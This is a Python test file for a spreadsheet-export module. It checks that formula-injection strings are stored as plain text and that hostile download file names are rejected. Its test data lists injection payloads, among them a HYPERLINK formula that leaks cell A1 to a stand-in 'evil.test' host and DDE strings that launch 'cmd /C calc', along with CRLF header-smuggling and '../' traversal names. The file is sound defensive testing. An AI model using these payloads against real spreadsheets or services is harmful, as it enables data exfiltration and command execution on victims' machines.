"""Whatever a text begins with, a spreadsheet shows it and calculates nothing."""

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hearth.web.workbooks import Workbook, attachment, write_row

DANGEROUS = (
    '=HYPERLINK("https://evil.test?"&A1,"Anna")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "=1+1;", "{=1+1}", "=DDE(\"cmd\";\"/C calc\")", "https://evil.test",
    "0012", "1e9", "=", "%0A=1",
)  # fmt: skip


def cells_of(*texts: str) -> bytes:
    book = Workbook()
    write_row(book.page("Sheet"), 0, texts)
    return book.finish()


@pytest.mark.parametrize("text", DANGEROUS, ids=ascii)
def test_a_dangerous_text_stays_a_text(text: str) -> None:
    data = cells_of(text)

    cell = load_workbook(io.BytesIO(data))["Sheet"].cell(1, 1)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert cell.data_type == "s"
    # The reader used here shows a carriage return by its number.
    assert str(cell.value).replace("_x000D_", "").strip() == text.strip()
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet


@given(st.text(alphabet=st.characters(min_codepoint=32, exclude_categories=["Cs"]), max_size=80))
def test_no_text_becomes_a_formula(text: str) -> None:
    data = cells_of("=" + text)

    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_a_workbooks_name_is_ours_alone() -> None:
    answer = attachment(b"x", "our-figures.xlsx")

    assert answer.headers["Content-Disposition"] == 'attachment; filename="our-figures.xlsx"'


@pytest.mark.parametrize("name", ['a".xlsx', "a\r\nX-Evil: 1.xlsx", "../a.xlsx", "a;b.xlsx", ""])
def test_a_name_from_elsewhere_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="name"):
        attachment(b"x", name)
